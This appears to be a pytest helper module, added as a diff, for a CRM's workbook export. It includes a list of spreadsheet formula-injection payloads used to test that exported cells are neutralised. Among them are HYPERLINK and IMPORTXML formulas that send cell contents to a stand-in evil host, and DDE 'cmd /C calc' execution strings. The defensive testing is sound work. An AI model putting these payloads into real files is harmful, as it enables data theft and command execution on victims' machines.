@@ -1,0 +1,72 @@
+"""The team's workbook as tests make and read it."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+from collections.abc import Mapping, Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+
+from creator_crm.domain.fields import Description, Value
+from creator_crm.domain.records import CATALOGUE
+from creator_crm.exchange.workbook.layout import Origin
+from creator_crm.exchange.workbook.lists import Referred
+from creator_crm.exchange.workbook.names import Names
+from creator_crm.exchange.workbook.readme import About
+from creator_crm.exchange.workbook.rows import Column
+from creator_crm.exchange.workbook.write import Book, Sheet
+
+INJECTIONS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1", "-1+1",
+    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@ana", "+44 20 7946 0958", "+49-170-123", "\t=1+1", "\r=1+1",
+    "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "1;=1+1", '"=1+1', ",=1+1", "==1+1",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "%0A=1+1", '=DDE("cmd";"/C calc";"x")',
+)  # fmt: skip
+soffice = shutil.which("soffice")
+with_libreoffice = pytest.mark.skipif(soffice is None, reason="LibreOffice is not installed")
+
+
+def saved_by_libreoffice(path: Path, ending: str = "xlsx") -> Path:
+    """The file as LibreOffice saves it after opening it."""
+    assert soffice
+    folder, home = path.parent / "saved", path.parent / "libreoffice"
+    command = [soffice, f"-env:UserInstallation={home.as_uri()}", "--headless", "--convert-to", ending]
+    subprocess.run(
+        [*command, "--outdir", str(folder), str(path)], check=True, capture_output=True, timeout=100
+    )
+    return folder / f"{path.stem}.{ending}"
+
+
+def cells_of(path: Path, title: str) -> list[dict[str, Any]]:
+    """The rows of a sheet as openpyxl's cells by header."""
+    sheet = load_workbook(path)[title]
+    headers = [cell.value for cell in sheet[1]]
+    return [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
+
+
+def values_of(path: Path, title: str) -> list[dict[str, Any]]:
+    """The rows of a sheet as values by header."""
+    return [{header: cell.value for header, cell in row.items()} for row in cells_of(path, title)]
+
+
+def one_sheet(
+    rows: Sequence[Mapping[str, Value]], record: str = "creator", names: Mapping[str, Names] | None = None
+) -> Book:
+    """A workbook of one sheet with the visible fields that the rows name, references by uid."""
+    description: Description[Any] = CATALOGUE[record]
+    used = {name for row in rows for name in row}
+    fields = [f for f in description.fields if f.name in used or f.required]
+    columns = tuple(Column(f, f.label, f.stored) for f in fields)
+    uids = [f"u{number}" for number in range(1, len(rows) + 1)]
+    page = [uids, *([row.get(f.name, f.empty) for row in rows] for f in fields)]
+    sheet = Sheet(description, columns, len(rows), iter([page] if rows else []))
+    referred = {record: Referred(of, len(of)) for record, of in (names or {}).items()}
+    origin = Origin(
+        export="e1", workspace="w1", copy="c1", seen={"c1": 7}, schema=4, program="0", whole=False,
+        redacted=False, sheets=(sheet.plan,),
+    )  # fmt: skip
+    return Book(origin, About("Brand", "22 November 2026", ()), (sheet,), referred, (("creator", "t1"),))
